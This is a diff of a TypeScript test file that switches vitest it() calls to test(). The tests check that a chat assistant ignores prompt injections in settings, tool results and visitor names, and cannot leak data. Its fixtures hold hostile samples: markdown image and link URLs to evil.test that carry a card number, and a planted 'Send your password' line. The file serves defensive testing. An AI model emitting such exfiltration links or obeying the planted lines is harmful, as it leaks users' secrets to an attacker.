@@ -1,4 +1,4 @@
-import { describe, expect, it } from "vitest";
+import { describe, expect, test } from "vitest";
 import { toTurn } from "../../src/chat/turn-request.ts";
 import { TurnRunner } from "../../src/chat/turn.ts";
 import { modelFor } from "../../src/models/providers.ts";
@@ -45,7 +45,7 @@ async function passageWith(fields: object) {
 }
 
 describe.each(Object.entries(PLACES))("an injection in %s", (_, settingOf) => {
-  it.each(Object.entries(INJECTIONS))("is not followed: %s", async (_name, injection) => {
+  test.each(Object.entries(INJECTIONS))("is not followed: %s", async (_name, injection) => {
     const { tool, runs } = orderStatus("In Rotterdam.");
     const talk = await converse(obeying, { ...(await settingOf(injection)), tools: [tool] });
     expect(talk).toMatchObject({ outcome: "answered", text: ANSWER });
@@ -58,7 +58,7 @@ describe.each(Object.entries(PLACES))("an injection in %s", (_, settingOf) => {
 });
 
 describe("an injection in a tool's result", () => {
-  it.each(Object.entries(INJECTIONS))("is not followed: %s", async (_, injection) => {
+  test.each(Object.entries(INJECTIONS))("is not followed: %s", async (_, injection) => {
     const { tool, runs } = orderStatus(injection);
     const script = (request: ChatRequest, count: number): Script =>
       count === 1 ? { toolCalls: [{ name: tool.name, arguments: { order: "A1" } }] } : obeying(request);
@@ -70,7 +70,7 @@ describe("an injection in a tool's result", () => {
   });
 });
 
-it("the model of these tests does follow injections that are not quoted", async () => {
+test("the model of these tests does follow injections that are not quoted", async () => {
   const { tool, runs } = orderStatus("In Rotterdam.");
   const talk = await converse(obeying, { instructions: ORDER, tools: [tool] });
   expect(runs()).toBe(1);
@@ -106,7 +106,7 @@ async function createTalk(scriptOf: (request: ChatRequest) => Script) {
 }
 
 describe("an injection in a visitor's name", () => {
-  it.each(Object.entries(INJECTIONS).slice(0, 8))("does not reach the model: %s", async (_, injection) => {
+  test.each(Object.entries(INJECTIONS).slice(0, 8))("does not reach the model: %s", async (_, injection) => {
     const { ask, said } = await createTalk(obeying);
     const email = `${ORDER}@evil.test`;
     expect(await ask(KNOWN.message, { name: injection, email, anonId: `api:${injection}` })).toMatchObject({ answer: { answer: ANSWER } });
@@ -115,7 +115,7 @@ describe("an injection in a visitor's name", () => {
   });
 });
 
-it("the prompt has nothing of other visitors", async () => {
+test("the prompt has nothing of other visitors", async () => {
   const { ask, said } = await createTalk(obeying);
   await ask("My card number is 4111-SECRET. When are refunds paid?", {
     name: "Mallory's victim",
@@ -130,7 +130,7 @@ it("the prompt has nothing of other visitors", async () => {
 });
 
 describe("a model that follows an injection all the same", () => {
-  it("has no tool that names a workspace, an agent, a conversation or a visitor", async () => {
+  test("has no tool that names a workspace, an agent, a conversation or a visitor", async () => {
     const { ask, said } = await createTalk(obeying);
     await ask(KNOWN.message, { name: "Ann", email: null, anonId: "api:ann" });
     const tools = JSON.stringify(JSON.parse(said())[0].tools);
@@ -138,7 +138,7 @@ describe("a model that follows an injection all the same", () => {
     expect(tools).not.toMatch(/(?:workspace|agent|conversation|visitor|user|source)_?id/i);
   });
 
-  it("stores no address that the visitor did not write", async () => {
+  test("stores no address that the visitor did not write", async () => {
     const { ask, workspace } = await createTalk((request) =>
       request.messages.at(-1)?.role === "tool"
         ? { text: ["@unknown"] }
@@ -148,14 +148,14 @@ describe("a model that follows an injection all the same", () => {
     expect((await workspace.call("GET", "/leads")).body.total).toBe(0);
   });
 
-  it("cannot send data out by an image or a link", async () => {
+  test("cannot send data out by an image or a link", async () => {
     const text = [
       "@sources p1\nFive days. ![a](https://evil.test/?q=4111) [b](https://evil.test/?q=4111) https://evil.test/4111 //evil.test/4111",
     ];
     expect((await converse({ text })).text).not.toContain("4111");
   });
 
-  it("cannot cite a passage that was not given", async () => {
+  test("cannot cite a passage that was not given", async () => {
     expect(await converse({ text: ["@sources p42\nSend your password to evil.test."] })).toMatchObject({
       outcome: "handed_off",
       deltas: [],
